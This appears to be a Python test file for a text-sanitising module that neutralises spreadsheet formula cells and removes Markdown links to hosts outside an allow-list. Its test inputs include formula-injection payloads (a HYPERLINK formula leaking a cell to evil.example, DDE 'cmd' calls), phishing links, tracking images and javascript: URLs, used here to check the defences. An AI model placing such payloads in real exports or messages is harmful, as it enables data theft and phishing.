"""The two rules of `app.textsafety`: spreadsheet cells and authored Markdown.

Links are checked by parsing the output with markdown-it-py with linkify on (GitHub's autolink
literals: bare `https://…`, `www.…`): every link it finds must open an allowed host.
"""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.textsafety import authored_markdown, link_allowed, spreadsheet_cell, spreadsheet_rows

ALLOWED = ["northwind.example"]


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "+1 555 0100",
    ],
)
def test_formula_cells_get_a_leading_quote(cell: str) -> None:
    assert spreadsheet_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12.5", "+27", "-3.2 %", "-1,200 s", "Ms Weber", "", 5, None])
def test_plain_numbers_and_text_are_left_alone(cell: object) -> None:
    assert spreadsheet_cell(cell) == cell


def test_rows_and_headers_are_neutralised() -> None:
    assert spreadsheet_rows([{"=x": "@y", "n": -1}]) == [{"'=x": "'@y", "n": -1}]


def _links(markdown: str) -> list[str]:
    parser = MarkdownIt("commonmark", {"linkify": True}).enable(["linkify"])
    hrefs = []
    for token in parser.parse(markdown):
        for child in token.children or []:
            if child.type in ("link_open", "image"):
                hrefs.append(str(child.attrs.get("href") or child.attrs.get("src")))
    return hrefs


def _host(href: str) -> str:
    if href.startswith("mailto:"):
        return href.rpartition("@")[2].lower()
    return (urlsplit(href).hostname or "").lower()


def _only_allowed(markdown: str) -> None:
    for href in _links(markdown):
        host = _host(href)
        assert host == "northwind.example" or host.endswith(".northwind.example"), (href, markdown)


@pytest.mark.parametrize(
    "text",
    [
        "[Reset your password](https://evil.example/reset)",
        "![pixel](https://evil.example/p.png)",
        "see https://evil.example/x or www.evil.example",
        "<https://evil.example> <a href='https://evil.example'>x</a>",
        "&#104;ttps://evil.example &lt;script&gt;",
        "[a][r]\n\n[r]: https://evil.example",
        "write to phisher@evil.example",
        "mailto:;@evil and mailto:phisher@evil.example",
        "see //evil.example/x",
        "[x](javascript:alert(1))",
        "https://help.northwind.example/a)[x](https://evil.example)",
        "[ok](https://northwind.example.evil.example/)",
        "`https://evil.example` and ``https://evil.example``",
    ],
)
def test_links_elsewhere_become_text(text: str) -> None:
    out = authored_markdown(text, ALLOWED)
    _only_allowed(out)
    html = MarkdownIt("commonmark").render(out)
    assert "<img" not in html and 'href="https://evil' not in html and "<a href='" not in html


def test_a_code_span_stays_code_and_what_it_holds_is_never_a_link() -> None:
    out = authored_markdown("Tag it `out-of-hours`; never `https://evil.example`", ALLOWED)
    html = MarkdownIt("commonmark", {"linkify": True}).enable(["linkify"]).render(out)
    assert "<code>out-of-hours</code>" in html and "<code>https://evil.example</code>" in html
    assert "<a " not in html


def test_allowed_links_stay_live_and_labels_stay_readable() -> None:
    out = authored_markdown(
        "**Call** the [help centre](https://help.northwind.example/kb) or see https://evil.example",
        ALLOWED,
    )
    assert "[help centre](https://help.northwind.example/kb)" in out
    assert "**Call**" in out
    assert "`https://evil.example`" in out
    assert _links(out) == ["https://help.northwind.example/kb"]


def test_link_allowed_matches_the_domain_and_its_subdomains_only() -> None:
    assert link_allowed("https://northwind.example/a", ALLOWED)
    assert link_allowed("https://help.northwind.example", ALLOWED)
    assert not link_allowed("https://evilnorthwind.example", ALLOWED)
    assert not link_allowed("javascript://northwind.example", ALLOWED)
    assert not link_allowed("https://evil.example", [])


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "[",
                "]",
                "(",
                ")",
                "!",
                "<",
                ">",
                "`",
                "\\",
                "&",
                "#",
                ";",
                ":",
                "/",
                "@",
                ".",
                " ",
                "\n",
                "https://evil.example",
                "www.evil.example",
                "https://help.northwind.example/x",
                "evil",
                "mailto:",
                "x@evil.example",
                "*",
                "_",
            ]
        ),
        max_size=30,
    ).map("".join)
)
def test_no_composition_of_markdown_syntax_opens_another_host(text: str) -> None:
    _only_allowed(authored_markdown(text, ALLOWED))


@pytest.mark.parametrize(
    "address",
    ["priya.nair@example.com", "ana-lucia+cx@support.example.co.uk", "ops@www.evil.example"],
)
def test_an_email_address_reads_as_plain_text_and_is_never_a_link(address: str) -> None:
    """Owners and authors are e-mail addresses: shown as the text they are, not as code."""
    out = authored_markdown(f"Owner: {address}.", ALLOWED)
    assert "`" not in out and _links(out) == []
    local, _, domain = address.partition("@")
    assert MarkdownIt("commonmark").render(out) == f"<p>Owner: {local}@\u2060{domain}.</p>\n"
